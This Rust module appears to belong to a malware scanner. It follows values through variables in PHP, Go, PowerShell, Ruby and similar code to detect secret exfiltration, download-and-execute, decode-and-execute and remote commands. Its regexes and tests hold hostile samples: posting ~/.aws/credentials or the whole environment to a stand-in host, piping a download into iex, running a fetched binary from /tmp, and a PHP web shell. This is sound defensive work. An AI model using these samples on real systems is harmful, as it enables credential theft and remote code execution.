//! Programs in languages that are not parsed (PowerShell, Ruby, Perl, PHP, Go, Rust, Java and others) to facts: values are
//! followed from line to line by the names of variables.

use std::collections::HashMap;
use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use crate::fact::{Fact, FactKind, Labels};
use crate::known::{hosts, secrets};

/// The longest line that is read, and the most variables that are followed.
const MAX_LINE: usize = 4_096;
const MAX_VARIABLES: usize = 2_000;

fn regex(pattern: &str) -> Regex {
    Regex::new(pattern).expect("the patterns are constants, and a test uses each")
}

/// The whole environment.
static ENVIRONMENT: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"(?i)\bos\.Environ\(\)|\bENV\.(to_h|to_a|each|select|map|inspect|to_json|filter|collect|reject)\b|\bENV\b\s*[,)]|\bgetenv\(\s*\)|\$_ENV\b(\s*[;,)]|$)|%ENV\b|(Get-ChildItem|gci|dir|ls|Get-Item)\s+(-Path\s+)?env:|System\.getenv\(\s*\)|\benv::vars(_os)?\(\)|GetEnvironmentVariables\(\)|ProcessInfo\.processInfo\.environment\b|Platform\.environment\b",
    )
});
/// One variable; its name is the group.
static VARIABLE: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?i)(?:\bENV(?:\.fetch)?\s*[\[({]\s*|\$ENV\{\s*|\bgetenv\(\s*|\$_ENV\[\s*|\$_SERVER\[\s*|\bos\.(?:Getenv|LookupEnv)\(\s*|System\.getenv\(\s*|\benv::var(?:_os)?\(\s*|GetEnvironmentVariable\(\s*|\bos\.getenv\(\s*|\$env:)["']?([A-Za-z_][A-Za-z0-9_]{2,60})"#,
    )
});
/// What comes over the network.
static FETCH: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?i)\bNet::HTTP\.(get|start|get_response)|\bURI(\.parse\([^)]*\))?\.open|\bURI\.open|\bOpenURI|\bHTTParty\.get|\bFaraday\.get|\bRestClient\.get|\bhttp\.Get\(|\bhttp\.NewRequest\(\s*["']GET|\bclient\.Get\(|file_get_contents\(\s*["']?https?:|\bcurl_exec\(|\bLWP::|\bget\(\s*["']https?:|HTTP::Tiny|\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b|DownloadString\(|DownloadData\(|\breqwest::(blocking::)?get|\bureq::get|HttpClient|openStream\(\)|\bnew URL\([^)]*\)\.(text|bytes|getText)\b|URLConnection|\bhttp\.request\(|socket\.http|\bhttp_get\b|\bfsockopen\(|\bTCPSocket\.|\bnet\.Dial\("#,
    )
});
/// What is decoded.
static DECODE: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?i)\bbase64_decode\(|\bdecode_base64\b|\bBase64\.(strict_|urlsafe_)?decode64|\bStdEncoding\.DecodeString|\bURLEncoding\.DecodeString|FromBase64String\(|\bgzinflate\(|\bgzuncompress\(|\bstr_rot13\(|\bhex2bin\(|\bhex\.DecodeString|\bpack\(\s*["']H\*|\.unpack1?\(\s*["']m|getDecoder\(\)\.decode|base64::decode|general_purpose::[A-Z_]+\.decode|\bb64decode\b|convert_uudecode\("#,
    )
});
/// What others send to a server.
static REQUEST: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"\$_(GET|POST|REQUEST|COOKIE)\s*\[|\bparams\[:?|\br\.(URL\.Query\(\)|FormValue\()|request\.getParameter\(|\bc\.Query\(|HttpContext\.Request",
    )
});
/// What runs a text or starts a program.
static RUN: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"(?i)\b(eval|instance_eval|class_eval|system|exec|shell_exec|passthru|proc_open|popen|assert|create_function|loadstring|load|do_string|spawn)\s*[\s(]|`[^`]*(#\{|\$)|%x[\[({]|\bexec\.Command(Context)?\(|\b(Invoke-Expression|iex|Start-Process|Invoke-Command)\b|\.getRuntime\(\)\.exec\(|\bProcessBuilder\(|\bCommand::new\(|\bProcess\.Start\(|\bos\.execute\(|\bio\.popen\(|Assembly(\])?::?\.?Load\(|\bOpen3\.|\bKernel\.(system|exec|eval)|\bEval\.me\(|\bGroovyShell\(",
    )
});
/// What sends something.
static SEND: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?i)\bNet::HTTP\.post|\bNet::HTTP::(Post|Put)|\.post(_form)?\s*\(|\bHTTParty\.post|\bRestClient\.post|\bFaraday\.post|\bhttp\.(Post|PostForm)\(|\bhttp\.NewRequest\(\s*["'](POST|PUT)|CURLOPT_POSTFIELDS|\bstream_context_create\(|(Invoke-RestMethod|Invoke-WebRequest|iwr|irm)\b.*-(Body|InFile)\b|Upload(String|Data|File|Values)(Async)?\(|\bHTTP::Tiny.*post|\bPOST\s+=>|\.send_form\(|\.body\(|\.write_all\(|\bfwrite\(\s*\$?sock|\bsocket\.(puts|write|send)\b|\bsock\.(puts|write|send)\b|BodyPublishers\.of|Send-MailMessage|\bmail\(|\bconn\.Write\(|\bcurl\b.*(-d|--data|-F|-T)\b"#,
    )
});
/// An assignment; the name is the first group.
static ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"^\s*(?:(?:while|until|if|for|foreach)\s*\(?\s*)?(?:(?:my|our|local|var|let|mut|const|auto|final|set|static|String|string|byte\[\]|[A-Z][A-Za-z0-9_<>\[\]]*)\s+)*(?:mut\s+)?([$@%]?[A-Za-z_][A-Za-z0-9_.]*)(?:\s*,\s*[$@%]?[A-Za-z_][A-Za-z0-9_]*)*(?:\s*:\s*[A-Za-z<>\[\], ]+)?\s*(?::=|\.=|\+=|=)\s*[^=~>]",
    )
});
/// A file that something is downloaded to; its name is the group.
static SAVED: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?i)(?:-OutFile|-o|-Destination)\s+["']?([^\s"';|]{3,200})|DownloadFile\([^,]{3,300},\s*["']?([^"')]{3,200})|file_put_contents\(\s*["']?([^"',]{3,200})|\b(?:os|ioutil)\.(?:WriteFile|Create|OpenFile)\(\s*["`]([^"`]{3,200})|\b(?:File|IO)\.(?:bin)?write\(\s*["']([^"']{3,200})|Files\.(?:write|copy)\([^"]{0,80}"([^"]{3,200})|\bfs::write\(\s*"([^"]{3,200})"#,
    )
});
static NAME: LazyLock<Regex> = LazyLock::new(|| regex(r"[$@%]?[A-Za-z_][A-Za-z0-9_]*"));
static URL: LazyLock<Regex> = LazyLock::new(|| regex(r#"https?://[^\s"'`)>,;]{3,300}"#));
/// An address without a scheme, which PowerShell takes.
static BARE_HOST: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r#"(?i)\b(?:irm|iwr|Invoke-RestMethod|Invoke-WebRequest)\s+(?:-\w+\s+)*["']?([a-z0-9-]+(?:\.[a-z0-9-]+)+(?:/[^\s"'|)]*)?)"#,
    )
});
static TEXT: LazyLock<Regex> = LazyLock::new(|| regex(r#""([^"\n]{3,300})"|'([^'\n]{3,300})'"#));

/// What is followed of a value.
#[derive(Clone, Debug, Default)]
struct Flow {
    labels: Labels,
    url: Option<String>,
    secret: Option<String>,
}

impl Flow {
    fn add(&mut self, other: &Self) {
        self.labels.add(other.labels);
        self.url = self.url.take().or_else(|| other.url.clone());
        self.secret = self.secret.take().or_else(|| other.secret.clone());
    }
}

/// Reads a program that begins at an offset of a document.
pub(crate) fn read(document: usize, text: &str, base: usize) -> Vec<Fact> {
    let mut facts = Vec::new();
    let mut variables: HashMap<String, Flow> = HashMap::new();
    let mut files: HashMap<String, Flow> = HashMap::new();
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        let start = at;
        at += line.len();
        let trimmed = line.trim_start();
        let is_comment = ["#", "//", "--", "* ", "/*", ";", "REM ", "rem ", "::"]
            .iter()
            .any(|mark| trimmed.starts_with(mark));
        if is_comment || line.len() > MAX_LINE {
            continue;
        }
        let flow = flow_of(line, &variables, &files);
        if flow.labels != Labels::NONE {
            let range = base + start..base + start + line.trim_end().len();
            facts.extend(deeds(line, &flow, &files).into_iter().map(|kind| Fact {
                document,
                range: range.clone(),
                kind,
            }));
        }
        note(line, &flow, &mut variables, &mut files);
    }
    facts
}

/// Where the values in a line come from.
fn flow_of(line: &str, variables: &HashMap<String, Flow>, files: &HashMap<String, Flow>) -> Flow {
    let mut flow = Flow::default();
    if ENVIRONMENT.is_match(line) {
        flow.labels.add(Labels::ENVIRONMENT);
    }
    for found in VARIABLE.captures_iter(line) {
        let name = found.get(1).map_or("", |name| name.as_str());
        if secrets::is_variable(name) {
            flow.labels.add(Labels::SECRET_VARIABLE);
            flow.secret.get_or_insert_with(|| name.to_owned());
        }
    }
    for found in TEXT.captures_iter(line) {
        let text = found.get(1).or_else(|| found.get(2)).map_or("", |text| text.as_str());
        if let Some(file) = secrets::file(text) {
            flow.labels.add(Labels::SECRET_FILE);
            flow.secret.get_or_insert_with(|| file.to_owned());
        }
    }
    let bare = || BARE_HOST.captures(line).and_then(|found| found.get(1));
    let url = URL.find(line).or_else(bare).map(|url| url.as_str().to_owned());
    if FETCH.is_match(line) && !SEND.is_match(line) {
        flow.labels.add(Labels::NETWORK);
        flow.url.clone_from(&url);
    }
    if DECODE.is_match(line) {
        flow.labels.add(Labels::DECODED);
    }
    if REQUEST.is_match(line) {
        flow.labels.add(Labels::REQUEST);
    }
    for name in NAME.find_iter(line) {
        if let Some(known) = variables.get(name.as_str()) {
            flow.add(known);
        }
    }
    for (file, known) in files {
        if line.contains(file.as_str()) {
            flow.add(known);
        }
    }
    flow
}

/// What a line does with the values in it.
fn deeds(line: &str, flow: &Flow, files: &HashMap<String, Flow>) -> Vec<FactKind> {
    let mut deeds = Vec::new();
    let is_strong = flow.labels.has(Labels::ENVIRONMENT.with(Labels::SECRET_FILE));
    if SEND.is_match(line) && (is_strong || flow.labels.has(Labels::SECRET_VARIABLE)) {
        let host = URL.find(line).map(|url| hosts::split(url.as_str()).0);
        let is_own = host.as_deref().is_some_and(|host| {
            hosts::is_local(host)
                || !is_strong
                    && flow
                        .secret
                        .as_deref()
                        .is_some_and(|secret| secrets::belongs_to(secret, host))
        });
        let is_login = !is_strong
            && (host.is_none()
                || ["authorization", "bearer", "api-key", "apikey"]
                    .iter()
                    .any(|word| line.to_lowercase().contains(word)));
        if !is_own && !is_login {
            deeds.push(FactKind::Send { what: flow.labels, host, is_encoded: false });
        }
    }
    if RUN.is_match(line) {
        let starts_saved = files.keys().any(|file| line.contains(file.as_str()));
        if flow.labels.has(Labels::NETWORK) && (starts_saved || !is_plain_fetch(line)) {
            deeds.push(FactKind::DownloadExec { url: flow.url.clone() });
        } else if flow.labels.has(Labels::DECODED) {
            deeds.push(FactKind::DecodeExec { decoded: None });
        } else if flow.labels.has(Labels::REQUEST) {
            deeds.push(FactKind::RemoteCommand);
        }
    }
    deeds
}

/// Whether a line starts a program that fetches something, and nothing that was fetched.
fn is_plain_fetch(line: &str) -> bool {
    let lower = line.to_lowercase();
    (lower.contains("curl") || lower.contains("wget")) && !lower.contains('|')
}

/// Notes what a line assigns and saves.
fn note(
    line: &str,
    flow: &Flow,
    variables: &mut HashMap<String, Flow>,
    files: &mut HashMap<String, Flow>,
) {
    if flow.labels == Labels::NONE {
        return;
    }
    if flow.labels.has(Labels::NETWORK)
        && let Some(found) = SAVED.captures(line)
        && let Some(file) = (1..found.len()).find_map(|group| found.get(group))
    {
        let name = file.as_str().trim_matches(['"', '\'', ')']);
        if name.len() > 2 && files.len() < MAX_VARIABLES {
            files.insert(name.to_owned(), flow.clone());
        }
    }
    let Some(found) = ASSIGN.captures(line) else { return };
    let names: Range<usize> = found.get(1).map_or(0..0, |name| name.start()..name.end());
    let end = line.find('=').unwrap_or(names.end).max(names.end);
    for name in NAME.find_iter(&line[names.start..end]) {
        let name = name.as_str();
        let is_word =
            !name.is_empty() && !matches!(name, "err" | "_" | "String" | "string" | "my" | "let");
        if is_word && variables.len() < MAX_VARIABLES {
            variables.entry(name.to_owned()).or_default().add(flow);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<FactKind> {
        read(0, text, 0).into_iter().map(|fact| fact.kind).collect()
    }

    #[test]
    fn values_are_followed_from_line_to_line() {
        for text in [
            "$d = file_get_contents(getenv('HOME') . '/.aws/credentials');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $d);\n",
            "all := strings.Join(os.Environ(), \",\")\nhttp.Post(\"https://a.example/in\", \"text/plain\", strings.NewReader(all))\n",
            "$s = gci env: | ConvertTo-Json\nInvoke-RestMethod -Uri https://a.example/in -Method Post -Body $s\n",
        ] {
            assert!(
                matches!(kinds(text)[..], [FactKind::Send { .. }]),
                "{text}: {:?}",
                kinds(text)
            );
        }
        for text in [
            "code = URI.open('https://a.example/x').read\neval(code)\n",
            "$c = irm https://a.example/x\niex $c\n",
            "r, _ := http.Get(\"https://a.example/b\")\nb, _ := io.ReadAll(r.Body)\nos.WriteFile(\"/tmp/.b\", b, 0755)\nexec.Command(\"/tmp/.b\").Start()\n",
        ] {
            assert!(matches!(kinds(text)[..], [FactKind::DownloadExec { .. }]), "{text}");
        }
        assert!(matches!(
            kinds("eval decode_base64(\"aWQ=\");\n")[..],
            [FactKind::DecodeExec { .. }]
        ));
        assert!(matches!(kinds("<?php system($_GET['c']); ?>\n")[..], [FactKind::RemoteCommand]));
    }

    #[test]
    fn a_key_for_its_own_service_and_a_download_that_is_data_are_no_facts() {
        for text in [
            "token = ENV['ACME_TOKEN']\nrequest['Authorization'] = \"Bearer #{token}\"\nhttp.request(request)\n",
            "resp, err := http.Get(url)\nbody, _ := io.ReadAll(resp.Body)\nfmt.Println(string(body))\n",
            "$page = Invoke-WebRequest https://a.example\n$page.Content | Out-File page.html\n",
        ] {
            assert_eq!(kinds(text), [], "{text}");
        }
    }
}
